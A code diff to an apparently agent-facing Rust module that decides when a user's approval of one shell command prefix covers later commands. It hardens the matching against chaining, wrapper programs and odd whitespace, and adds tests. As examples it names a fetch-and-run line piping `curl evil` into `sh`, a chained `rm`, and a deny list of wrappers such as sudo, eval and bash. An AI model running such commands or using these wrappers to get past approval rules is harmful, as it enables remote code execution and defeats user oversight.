@@ -18,8 +18,28 @@ use super::messages::{Answer, Answered, Prompt};
 /// not approve `cargo test; curl evil | sh`.
 const SHELL_META: &[char] = &[
     ';', '&', '|', '`', '$', '(', ')', '<', '>', '\n', '\r', '\\', '\'', '"', '*', '?', '{', '}',
-    '~',
+    '~', '[', ']', '!', '#',
 ];
+
+/// First words that are no program of their own but run, or change how
+/// the shell runs, whatever follows: a rule for one of them would approve
+/// every command after it.
+const NOT_A_PROGRAM: &[&str] = &[
+    "env", "exec", "eval", "command", "builtin", "nohup", "time", "timeout", "xargs", "sudo",
+    "doas", "su", "sh", "bash", "dash", "zsh", "ksh", "busybox", "nice", "ionice", "stdbuf",
+    "setsid", "chroot", "unshare", "nsenter", "strace", "ltrace", "watch", "flock", "source", ".",
+    "if", "then", "while", "until", "for", "case", "do", "function", "coproc", "select",
+];
+
+/// Whether `command` holds only what the shell splits on space and tab:
+/// other whitespace (a vertical tab, a form feed, a Unicode space) would
+/// make the words seen here differ from the shell's.
+fn plain_words(command: &str) -> bool {
+    !command.contains(SHELL_META)
+        && command
+            .chars()
+            .all(|c| c == ' ' || c == '\t' || !(c.is_whitespace() || c.is_control()))
+}
 
 /// A rule an answer left behind.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -113,20 +133,30 @@ fn bash_command(tool: &str, args_json: &str) -> Option<String> {
 /// (An answers file's `prefix:` may name more words.) `None` for a command
 /// that chains or redirects.
 pub fn command_prefix(command: &str) -> Option<String> {
-    if command.contains(SHELL_META) {
+    if !plain_words(command) {
         return None;
     }
-    command.split_whitespace().next().map(str::to_owned)
+    let first = command.split([' ', '\t']).find(|w| !w.is_empty())?;
+    // `FOO=1 make` remembers no program: an assignment, then anything.
+    if first.contains('=') || NOT_A_PROGRAM.contains(&first) {
+        return None;
+    }
+    Some(first.to_owned())
 }
 
 /// Whether `command` starts with `prefix`'s words and holds nothing that
 /// chains, substitutes or redirects.
 pub fn prefix_matches(prefix: &str, command: &str) -> bool {
-    if command.contains(SHELL_META) {
+    if !plain_words(command) {
         return false;
     }
-    let want: Vec<&str> = prefix.split_whitespace().collect();
-    let have: Vec<&str> = command.split_whitespace().collect();
+    let words = |s: &'_ str| -> Vec<String> {
+        s.split([' ', '\t'])
+            .filter(|w| !w.is_empty())
+            .map(str::to_owned)
+            .collect()
+    };
+    let (want, have) = (words(prefix), words(command));
     !want.is_empty() && have.len() >= want.len() && have[..want.len()] == want[..]
 }
 
@@ -199,6 +229,24 @@ mod tests {
         assert!(prefix_matches("cargo test", "cargo test --lib"));
         assert!(!prefix_matches("cargo test", "cargo build"));
         assert_eq!(command_prefix("make | tee"), None);
+        // A first word that is no program would approve what follows it.
+        for c in [
+            "FOO=1 make",
+            "env make",
+            "sudo make",
+            "bash -c make",
+            "exec make",
+            "time make",
+            "! make",
+            "[ -f x ]",
+        ] {
+            assert_eq!(command_prefix(c), None, "{c}");
+        }
+        // Words the shell would split otherwise are not matched.
+        assert!(!prefix_matches("cargo test", "cargo\u{0b}test"));
+        assert!(!prefix_matches("ls", "ls\u{a0}-la"));
+        assert!(prefix_matches("ls", "ls\t-la"));
+        assert_eq!(command_prefix("  ls -la"), Some("ls".to_owned()));
         // A command that chains leaves no prefix rule at all.
         let chained = cmd("cargo test; rm x");
         assert!(
